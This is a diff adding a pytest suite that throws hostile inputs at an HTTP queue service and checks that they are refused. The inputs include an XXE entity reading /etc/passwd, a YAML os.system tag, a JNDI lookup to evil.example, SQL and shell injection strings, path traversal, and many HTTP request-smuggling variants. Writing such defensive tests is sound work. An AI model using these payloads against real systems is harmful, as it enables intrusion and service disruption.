@@ -1,0 +1,467 @@
+"""Tests with what no honest client sends: bodies made to confuse, and bytes that are hardly HTTP.
+
+Each is answered or its connection closed, changes nothing, and leaves the service to others. What an honest client may
+get wrong is in test_app.py.
+"""
+
+import http.client
+import json
+import pickle
+import re
+import socket
+import zlib
+from collections.abc import Iterator
+from contextlib import suppress
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import PATH, Service, message, start_service, stop_service
+from test_app import done, is_problem, nothing_changes
+
+from queues import QueueRegistry
+
+BODY = b'{"reason": "a test", "data": {"queue": "elsewhere"}, "always_flush": true}'  # would change all that is there
+FIELDS = json.loads(BODY)
+SHOULD_BE = "the body is not a request to rebind: see errors"
+
+
+@pytest.fixture(scope="module")
+def own_url(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """A database for what is refused before it gets to one: SQLite stands for both."""
+    return f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'queues.db'}"
+
+
+@pytest.fixture(scope="module")
+def wire(own_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
+    """A gunicorn on it, with one message there that every request here would change."""
+    own = QueueRegistry()
+    own.bind(own_url, busy_timeout=30)
+    own.load([message(id="m-ada")])
+    service = start_service(tmp_path_factory.mktemp("wire"), own_url)
+    yield service
+    stop_service(service)
+
+
+@pytest.fixture
+def unchanged(own_url: str) -> Iterator[None]:
+    """The test must leave all as it is."""
+    with nothing_changes(own_url):
+        yield
+
+
+# Bodies
+
+NOT_JSON: dict[str, bytes] = {
+    "a pickle": pickle.dumps(FIELDS),
+    "compressed": zlib.compress(BODY),
+    "MessagePack": b"\x82\xa6reason\xa1a\xa4data\x80",
+    "CBOR": b"\xa2freasonaadddata\xa0",
+    "BSON": b"\x1b\x00\x00\x00\x02reason\x00\x02\x00\x00\x00a\x00\x03data\x00\x05\x00\x00\x00\x00\x00",
+    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><reason>&b;</reason>',
+    "YAML": b"reason: a\ndata: {}\n",
+    "a YAML tag": b"!!python/object/apply:os.system [reboot]",
+    "multipart": b'--x\r\nContent-Disposition: form-data; name="reason"\r\n\r\na\r\n--x--\r\n',
+    "a form with JSON in it": b"body=" + BODY,
+    "JSONP": b"f(" + BODY + b")",
+    "a prefix against JSON hijacking": b")]}',\n" + BODY,
+    "lines of JSON": BODY + b"\n" + BODY,
+    "a JSON text sequence": b"\x1e" + BODY + b"\n",
+    "a concatenation": BODY + BODY.replace(b"elsewhere", b"nowhere"),
+    "a script": b"<script>alert(1)</script>",
+    "UTF-7": BODY.replace(b'"a test"', b"+ACI-a test+ACI-"),
+    "a request": b"POST / HTTP/1.1\r\nHost: localhost\r\n\r\n",
+    "every byte": bytes(range(256)),
+    "1 MiB of NUL": bytes(1024 * 1024),
+    "a quote without end": b'"' + b"a" * 1_000_000,
+    "a backslash without end": b'{"reason": "' + b"\\" * 999_999,
+    "half a \\u": BODY.replace(b"a test", b"\\u00"),
+    "no such escape": BODY.replace(b"a test", b"\\x41"),
+    "a tab in a string": BODY.replace(b"a test", b"a\ttest"),
+    "spaces of Unicode": BODY.replace(b" ", "\u00a0".encode()),
+    "a form feed": BODY + b"\f",
+    "quotes of typography": BODY.replace(b'"', "”".encode()),
+    "a word of Python's": BODY.replace(b"true", b"True"),
+    "a word of JavaScript's": BODY.replace(b"true", b"undefined"),
+    "a key without quotes": BODY.replace(b'"reason"', b"reason"),
+    "a plus sign": BODY.replace(b"true", b"+1"),
+    "a leading zero": BODY.replace(b"true", b"01"),
+    "no digit after the point": BODY.replace(b"true", b"1."),
+    "hexadecimal": BODY.replace(b"true", b"0x1"),
+    "digits of Arabic": BODY.replace(b"true", "\u0661".encode()),
+    "-1e999": BODY.replace(b"true", b"-1e999"),
+    "a million digits": BODY.replace(b"true", b"1" * 1_000_000),
+    "a million digits and a point": BODY.replace(b"true", b"1" * 1_000_000 + b".0"),
+    "a key twice, deep in a wrong value": BODY.replace(b"true", b'[[{"a": {"b": 1, "b": 2}}]]'),
+    "a key twice, one of them a surrogate pair": BODY[:-1] + '"😀": 1, "\\ud83d\\ude00": 2}'.encode(),
+    "braces and brackets crossed": b"{[}]" * 1000,
+    "a million commas": b"[" + b"," * 1_000_000 + b"]",
+}
+
+
+@pytest.mark.parametrize("body", NOT_JSON.values(), ids=NOT_JSON)
+@pytest.mark.usefixtures("unchanged")
+def test_what_only_looks_like_json_is_refused(wire: Service, body: bytes) -> None:
+    response = wire.post(body)
+    detail = response.json()["detail"]
+    assert detail.startswith("the body is not JSON that can be read: ")
+    assert len(response.content) < 500
+    assert is_problem(response, 400, detail)
+
+
+UNKNOWN, NO_BOOLEAN = ["Unknown field."], ["Not a valid boolean."]
+UNKNOWN_FIELDS = [
+    "Reason",
+    "reason ",
+    "reason\u200b",
+    "re\u0430son",  # the letter is Cyrillic
+    "\ufeffreason",
+    "$where",
+    "data.queue",
+    "data[queue]",
+    "__proto__",
+    "constructor",
+    "__class__",
+    "_schema",
+    "actor",
+    "limit",
+    "rebind_id",
+    "campaign'; DROP TABLE messages; --",
+    "\x00" * 100,
+    "",
+    "a" * 100_000,
+]
+
+
+@pytest.mark.parametrize("name", UNKNOWN_FIELDS, ids=lambda name: ascii(name[:40]))
+@pytest.mark.usefixtures("unchanged")
+def test_a_field_that_passes_for_another_is_refused(wire: Service, name: str) -> None:
+    response = wire.post(json.dumps(FIELDS | {name: "acme"}).encode())
+    assert is_problem(response, 422, SHOULD_BE, {name: UNKNOWN})
+
+
+WRONG_TYPES: dict[str, tuple[str, Any, Any]] = {
+    "an operator of a document database": ("tenant", {"$ne": None}, ["Not a valid string."]),
+    "a list of one criterion": ("campaign", ["spring"], ["Not a valid string."]),
+    "zero": ("always_flush", 0, NO_BOOLEAN),
+    "zero as a double": ("suppress_logging", 0.0, NO_BOOLEAN),
+    "on": ("trigger_rebind_event", "on", NO_BOOLEAN),
+    "an empty object": ("trigger_rebind_event", {}, NO_BOOLEAN),
+    "minus zero": ("always_flush", -0.0, NO_BOOLEAN),
+    "a number beyond 64 bits": ("domain", 2**64, ["Not a valid string."]),
+    "4,300 digits": ("domain", 10**4299, ["Not a valid string."]),
+    "pairs": ("data", [["queue", "b"]], ["Not a valid mapping type."]),
+    "text that is JSON": ("data", '{"queue": "b"}', ["Not a valid mapping type."]),
+    "data in data": ("data", {"data": {"queue": "b"}}, {"data": {"value": ["Not a valid string."]}}),
+}
+
+
+@pytest.mark.parametrize(("field", "value", "errors"), WRONG_TYPES.values(), ids=WRONG_TYPES)
+@pytest.mark.usefixtures("unchanged")
+def test_a_value_that_others_would_convert_is_refused(wire: Service, field: str, value: Any, errors: Any) -> None:
+    response = wire.post(json.dumps(FIELDS | {field: value}).encode())
+    assert is_problem(response, 422, SHOULD_BE, {field: errors})
+
+
+TOO_LONG_NAMES = {
+    "pinned": {"queue": "q" * 2001},
+    "pinned, by its bytes": {"queue": "é" * 1001},
+    "its parts together": {"campaign": "c" * 700, "tenant": "t" * 700, "routing_domain": "r" * 700},
+    "of one MiB": {"queue": "q" * 1_000_000},
+}
+
+
+@pytest.mark.parametrize("data", TOO_LONG_NAMES.values(), ids=TOO_LONG_NAMES)
+@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
+def test_a_name_too_long_for_a_queue_is_refused(
+    queues: QueueRegistry, url: str, service: Service, event: bool, data: dict[str, str]
+) -> None:
+    queues.load([message(), message()])
+    with nothing_changes(url):
+        # The handlers of tests/site_policy.py set a queue alone.
+        response = service.rebind(data={"queue": "".join(data.values())} if event else data, trigger_rebind_event=event)
+    assert is_problem(response, 422, response.json()["detail"])
+    assert len(response.content) < 500
+
+
+@pytest.mark.parametrize("depth", range(900, 1000, 3))
+@pytest.mark.usefixtures("unchanged")
+def test_about_the_depth_that_can_just_be_read_nothing_breaks(wire: Service, depth: int) -> None:
+    response = wire.post(BODY.replace(b'"elsewhere"', b'[{"a": ' * (depth // 2) + b"0" + b"}]" * (depth // 2)))
+    assert response.status_code in (400, 422)
+    assert is_problem(response, response.status_code, **without_status(response.json()))
+
+
+def without_status(problem: dict[str, Any]) -> dict[str, Any]:
+    """What is_problem cannot know by itself."""
+    return {key: problem[key] for key in ("detail", "errors") if key in problem}
+
+
+@pytest.mark.parametrize("byte", [b"", b"\0", b'"', b"{", b"9", b"\xff"], ids=["cut out", *map(ascii, '\0"{9ÿ')])
+@pytest.mark.usefixtures("unchanged")
+def test_one_byte_that_is_wrong_makes_it_a_refusal_or_another_request(wire: Service, byte: bytes) -> None:
+    for position in range(len(BODY)):
+        connection = http.client.HTTPConnection(*wire.address, timeout=60)
+        body = BODY[:position] + byte + BODY[position + 1 :]
+        connection.request("POST", f"{PATH}?dry_run=true", body, {"Content-Type": "application/json"})
+        response = connection.getresponse()
+        answer = json.loads(response.read())
+        assert (response.status, answer.get("status", 200)) in {(200, 200), (400, 400), (422, 422)}, body
+        connection.close()
+
+
+PLAIN_TEXT = {
+    "SQL": "' OR 1=1; DROP TABLE messages; --",
+    "SQL's wildcards": "%_*?",
+    "a parameter": ":key %(key)s $1 ? %s",
+    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} #{1} <%= 1 %>",
+    "a path": "../../../../etc/passwd",
+    "a shell": "$(reboot) `reboot` ; reboot | reboot",
+    "a terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
+    "a header": "a\r\nX-Evil: 1\r\n\r\nHTTP/1.1 200 OK",
+    "right to left": "\u202egnp.exe\u2066",
+    "combining": "e" + "\u0301" * 1000,
+    "not a character": "\ufffe\uffff\U0010ffff",
+    "a quote and a backslash": "'\"\\`\\'\\\"",
+    "much": "x" * 300_000,
+}
+
+
+@pytest.mark.parametrize("text", PLAIN_TEXT.values(), ids=PLAIN_TEXT)
+def test_as_a_criterion_hostile_text_is_a_name_that_no_queue_has(
+    queues: QueueRegistry, url: str, service: Service, text: str
+) -> None:
+    queues.load([message(meta={"campaign": "c", "tenant": "t", "routing_domain": "r"}), message()])
+    with nothing_changes(url):
+        for criterion in ("campaign", "tenant", "domain", "routing_domain"):
+            assert done(service.rebind(**{criterion: text}, data={"queue": "b"}, reason=text)) == (0, 0, 0)
+
+
+@pytest.mark.parametrize("text", PLAIN_TEXT.values(), ids=PLAIN_TEXT)
+def test_as_data_hostile_text_is_set_as_it_stands(queues: QueueRegistry, service: Service, text: str) -> None:
+    queues.load([message()])
+    assert done(service.rebind(data={"a": text, text: "b"}, reason=text)) == (1, 0, 0)
+    [record] = queues.records()
+    assert record["meta"] == {"a": text, text: "b"}
+    assert record["response"]["content"] == f"Rebound from example.com to example.com: {text}"
+
+
+def test_data_may_have_thousands_of_keys(queues: QueueRegistry, service: Service) -> None:
+    queues.load([message()])
+    data = {f"{n:x}": "" for n in range(5_000)}
+    assert done(service.rebind(data=data)) == (1, 0, 0)
+    assert [record["meta"] for record in queues.records()] == [data]
+
+
+@pytest.mark.usefixtures("unchanged")
+def test_as_many_wrong_keys_as_the_body_holds_are_refused(wire: Service) -> None:
+    names = [f"{n:x}" for n in range(80_000)]
+    response = wire.post(json.dumps(FIELDS | dict.fromkeys(names, 1)).encode())
+    assert is_problem(response, 422, SHOULD_BE, dict.fromkeys(names, UNKNOWN))
+
+
+# Bytes on the wire
+
+
+def head(*headers: bytes, line: bytes = f"POST {PATH} HTTP/1.1".encode(), host: bytes = b"Host: localhost") -> bytes:
+    """The beginning of a request, up to its body."""
+    return b"\r\n".join([line, host, b"Content-Type: application/json", *headers, b"", b""])
+
+
+def on_path(line: bytes) -> bytes:
+    """A request's first line, with the path in place of %s."""
+    return line % PATH.encode()
+
+
+LENGTH, CHUNKED = b"Content-Length: %d" % len(BODY), b"Transfer-Encoding: chunked"
+CHUNKS = b"%x\r\n%s\r\n0\r\n\r\n" % (len(BODY), BODY)
+
+REFUSED: dict[str, tuple[int, bytes]] = {
+    # How long the body is, told in two ways: what smuggles a request past a proxy
+    "a length, and chunked": (400, head(LENGTH, CHUNKED) + CHUNKS),
+    "chunked, and a length": (400, head(CHUNKED, LENGTH) + CHUNKS),
+    "chunked, and length 0 before another request": (400, head(b"Content-Length: 0", CHUNKED) + head(LENGTH) + BODY),
+    "two lengths": (400, head(LENGTH, b"Content-Length: 0") + BODY),
+    "the same length twice": (400, head(LENGTH, LENGTH) + BODY),
+    "a list of lengths": (400, head(b"Content-Length: 5, 5") + BODY),
+    "a negative length": (400, head(b"Content-Length: -1") + BODY),
+    "a length with a plus": (400, head(b"Content-Length: +%d" % len(BODY)) + BODY),
+    "a length in hexadecimal": (400, head(b"Content-Length: 0x4b") + BODY),
+    "a length with an underscore": (400, head(b"Content-Length: 7_5") + BODY),
+    "a length of ²": (400, head(b"Content-Length: \xb2") + BODY),
+    "a length of nothing": (400, head(b"Content-Length:") + BODY),
+    "a length beyond 64 bits": (413, head(b"Content-Length: 99999999999999999999") + BODY),
+    "a length of 4,000 digits": (413, head(b"Content-Length: " + b"9" * 4000) + BODY),
+    "a length of 5,000 digits": (431, head(b"Content-Length: " + b"9" * 5000) + BODY),
+    "a space before the colon": (400, head(b"Content-Length : %d" % len(BODY)) + BODY),
+    "chunked twice": (400, head(CHUNKED, CHUNKED) + CHUNKS),
+    "chunked, chunked": (400, head(b"Transfer-Encoding: chunked, chunked") + CHUNKS),
+    "chunked is not last": (400, head(b"Transfer-Encoding: chunked, identity") + CHUNKS),
+    "chunked is not there": (400, head(b"Transfer-Encoding: gzip") + CHUNKS),
+    "no such coding": (501, head(b"Transfer-Encoding: xchunked") + CHUNKS),
+    "a vertical tab before it": (400, head(b"Transfer-Encoding: \vchunked") + CHUNKS),
+    "chunked with a space before the colon": (400, head(b"Transfer-Encoding : chunked") + CHUNKS),
+    "chunked on a line that goes on": (400, head(b"Transfer-Encoding:\r\n chunked") + CHUNKS),
+    "chunked in HTTP/1.0": (400, head(CHUNKED, line=on_path(b"POST %s HTTP/1.0")) + CHUNKS),
+    # The size of a chunk
+    "a chunk of no size": (400, head(CHUNKED) + b"xyz\r\n" + BODY),
+    "a chunk of negative size": (400, head(CHUNKED) + b"-5\r\n" + BODY),
+    "a chunk's size with 0x": (400, head(CHUNKED) + b"0x" + CHUNKS),
+    "a chunk's size with an underscore": (400, head(CHUNKED) + b"4_a\r\n" + BODY + b"\r\n0\r\n\r\n"),
+    "a chunk's size beyond 64 bits": (400, head(CHUNKED) + b"f" * 40 + b"\r\n" + BODY),
+    "a chunk's size without end": (400, head(CHUNKED) + b"f" * 40_000),
+    "a chunk longer than its size": (400, head(CHUNKED) + b"5\r\n" + BODY + b"\r\n0\r\n\r\n"),
+    "a chunk that ends in a bare LF": (400, head(CHUNKED) + CHUNKS.replace(b"\r\n", b"\n")),
+    "an extension with a bare LF": (400, head(CHUNKED) + b"%x;a\nb\r\n%s\r\n0\r\n\r\n" % (len(BODY), BODY)),
+    "a trailer that is a length": (400, head(CHUNKED) + CHUNKS[:-2] + b"Content-Length: 5\r\n\r\n"),
+    # Headers
+    "200 headers": (431, head(LENGTH, *(b"X-%d: a" % n for n in range(200))) + BODY),
+    "a header of 9,000 bytes": (431, head(LENGTH, b"X: " + b"a" * 9000) + BODY),
+    "a header without end": (431, head(LENGTH)[:-2] + b"X: " + b"a" * 2_000_000),
+    "a name without end": (431, head(LENGTH)[:-2] + b"a" * 2_000_000),
+    "lines that end in a bare LF": (400, head(LENGTH).replace(b"\r\n", b"\n") + BODY),
+    "a bare LF in a value": (400, head(b"X: a\n" + LENGTH) + BODY),
+    "a bare CR in a value": (400, head(b"X: a\r" + LENGTH) + BODY),
+    "a NUL in a value": (400, head(LENGTH, b"X: a\0b") + BODY),
+    "a NUL in a name": (400, head(LENGTH, b"X\0: a") + BODY),
+    "a header without a colon": (400, head(LENGTH, b"X") + BODY),
+    "a header without a name": (400, head(LENGTH, b": a") + BODY),
+    "a first header that goes on": (400, head(LENGTH, host=b" Host: localhost") + BODY),
+    "two hosts": (400, head(LENGTH, b"Host: evil.example") + BODY),
+    "two content types": (400, head(LENGTH, b"Content-Type: text/plain") + BODY),
+    "http and https": (400, head(LENGTH, b"X-Forwarded-Proto: https", b"X-Forwarded-SSL: off") + BODY),
+    "an expectation that cannot be met": (417, head(LENGTH, b"Expect: 200-ok") + BODY),
+    # The first line
+    "a path of 9,000 bytes": (414, head(LENGTH, line=b"POST /" + b"a" * 9000 + b" HTTP/1.1") + BODY),
+    "a path without end": (414, b"POST /" + b"a" * 2_000_000),
+    "a NUL in the path": (400, head(LENGTH, line=b"POST /a\0b HTTP/1.1") + BODY),
+    "%00 in the path": (404, head(LENGTH, line=on_path(b"POST %s%%00 HTTP/1.1")) + BODY),
+    "a space in the path": (400, head(LENGTH, line=b"POST /a b HTTP/1.1") + BODY),
+    "a path that is no ASCII": (400, head(LENGTH, line=b"POST /\xff HTTP/1.1") + BODY),
+    "dots in the path": (404, head(LENGTH, line=on_path(b"POST /x/..%s HTTP/1.1")) + BODY),
+    "no slash": (400, head(LENGTH, line=b"POST api HTTP/1.1") + BODY),
+    "an absolute URI of another path": (404, head(LENGTH, line=b"POST http://localhost/ HTTP/1.1") + BODY),
+    "an absolute URI that is broken": (400, head(LENGTH, line=on_path(b"POST http://[::1%s HTTP/1.1")) + BODY),
+    "an authority": (404, head(LENGTH, line=b"CONNECT localhost:80 HTTP/1.1") + BODY),
+    "an asterisk": (404, head(LENGTH, line=b"OPTIONS * HTTP/1.1") + BODY),
+    "no version": (400, on_path(b"POST %s\r\n\r\n")),
+    "another version": (400, head(LENGTH, line=on_path(b"POST %s HTTP/2.0")) + BODY),
+    "a method in lower case": (400, head(LENGTH, line=on_path(b"post %s HTTP/1.1")) + BODY),
+    "a beginning of HTTP/2": (400, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)),
+    # No HTTP at all
+    "garbage": (400, bytes(range(256))),
+    "a mail": (400, b"EHLO evil.example\r\nMAIL FROM:<>\r\n"),
+    "two empty lines": (400, b"\r\n\r\n" + head(LENGTH) + BODY),
+}
+
+
+def exchange(service: Service, raw: bytes) -> list[int]:
+    """Send bytes as they stand, and say that nothing more will come. Returns the statuses of the answers."""
+    with socket.create_connection(service.address, timeout=60) as connection:
+        # It may be closed before all is sent.
+        with suppress(ConnectionError):
+            connection.sendall(raw)
+            connection.shutdown(socket.SHUT_WR)
+        return [int(status) for status in re.findall(rb"^HTTP/1\.\d (\d+) ", received(connection), re.MULTILINE)]
+
+
+def received(connection: socket.socket) -> bytes:
+    """All that comes until the other side closes the connection."""
+    answer = b""
+    with connection, suppress(ConnectionError):
+        while more := connection.recv(65536):
+            answer += more
+    return answer
+
+
+def serves_others(service: Service) -> bool:
+    """Assert that other clients get their answers."""
+    assert [service.rebind("?dry_run=true", data={"queue": "b"}).status_code for _ in range(3)] == [200] * 3
+    return True
+
+
+@pytest.mark.parametrize(("status", "raw"), REFUSED.values(), ids=REFUSED)
+def test_what_is_hardly_http_is_refused(wire: Service, own_url: str, status: int, raw: bytes) -> None:
+    with nothing_changes(own_url):
+        # More bytes than it reads make its close a reset, which may overtake the answer.
+        assert exchange(wire, raw) in ([[status]] if len(raw) < 20_000 else [[status], []])
+    assert serves_others(wire)
+
+
+CLOSED = {
+    "nothing": b"",
+    "half a line": b"POST",
+    "half a head": head()[:-2],
+    "TLS": b"\x16\x03\x01\0\xc8\x01" + bytes(9),
+}
+
+
+@pytest.mark.parametrize("raw", CLOSED.values(), ids=CLOSED)
+def test_what_ends_before_it_is_a_request_is_closed(wire: Service, own_url: str, raw: bytes) -> None:
+    with nothing_changes(own_url):
+        assert exchange(wire, raw) == []
+    assert serves_others(wire)
+
+
+def test_garbage_after_a_request_is_no_part_of_it(wire: Service, own_url: str) -> None:
+    dry = head(LENGTH, line=on_path(b"POST %s?dry_run=true HTTP/1.1")) + BODY
+    with nothing_changes(own_url):
+        assert exchange(wire, dry + b"\0\1\2 garbage\r\n\r\n") == [200, 400]
+    assert serves_others(wire)
+
+
+def test_what_follows_a_body_that_was_not_read_is_no_request(wire: Service, own_url: str) -> None:
+    """Where the first request is refused unread, its body must not be taken for the next request."""
+    smuggled = head(LENGTH) + BODY
+    with nothing_changes(own_url):
+        assert exchange(wire, head(b"Content-Length: %d" % len(smuggled), line=b"POST / HTTP/1.1") + smuggled) == [404]
+    assert serves_others(wire)
+
+
+def test_requests_on_one_connection_are_answered_one_by_one(wire: Service, own_url: str) -> None:
+    dry = head(LENGTH, line=on_path(b"POST %s?dry_run=true HTTP/1.1")) + BODY
+    with nothing_changes(own_url):
+        assert exchange(wire, dry * 20) == [200] * 20
+
+
+HARMLESS = {
+    "an absolute URI": head(LENGTH, line=on_path(b"POST http://localhost%s?dry_run=true HTTP/1.1")),
+    "another path in SCRIPT_NAME": head(LENGTH, b"SCRIPT_NAME: /x", line=on_path(b"POST %s?dry_run=true HTTP/1.1")),
+    "another path in PATH_INFO": head(LENGTH, b"PATH_INFO: /x", line=on_path(b"POST %s?dry_run=true HTTP/1.1")),
+    "a length with another name": head(LENGTH, b"Content_Length: 0", line=on_path(b"POST %s?dry_run=true HTTP/1.1")),
+    "another method": head(LENGTH, b"X-HTTP-Method-Override: PUT", line=on_path(b"POST %s?dry_run=true HTTP/1.1")),
+    "an upgrade": head(LENGTH, b"Upgrade: h2c, websocket", line=on_path(b"POST %s?dry_run=true HTTP/1.1")),
+}
+
+
+@pytest.mark.parametrize("raw", HARMLESS.values(), ids=HARMLESS)
+def test_what_would_mislead_others_makes_no_difference(wire: Service, own_url: str, raw: bytes) -> None:
+    with nothing_changes(own_url):
+        assert exchange(wire, raw + BODY) == [200]
+
+
+# Half of each, and then silence: a client that keeps its connection and says no more
+STALLED = {
+    "in the head": head()[:-2],
+    "in the body": head(LENGTH) + BODY[:9],
+    "in a chunk": head(CHUNKED) + b"ffff\r\n" + BODY,
+    "after a chunk": head(CHUNKED) + CHUNKS[:-2],
+}
+
+
+def test_a_client_that_stalls_is_cut_off_while_others_are_served(wire: Service, own_url: str) -> None:
+    stalled = {name: socket.create_connection(wire.address, timeout=60) for name in STALLED}
+    with nothing_changes(own_url):
+        for name, connection in stalled.items():
+            connection.sendall(STALLED[name])
+        for _ in range(5):
+            assert serves_others(wire)
+        answers = {name: received(connection)[:13] for name, connection in stalled.items()}
+    refused = b"HTTP/1.1 400 "
+    assert answers == {"in the head": b"", "in the body": refused, "in a chunk": refused, "after a chunk": refused}
+    assert serves_others(wire)
+
+
+def test_a_worker_ends_for_none_of_this(wire: Service) -> None:
+    output = Path(wire.output).read_text()
+    assert (output.count("Booting worker"), wire.process.poll()) == (2, None)
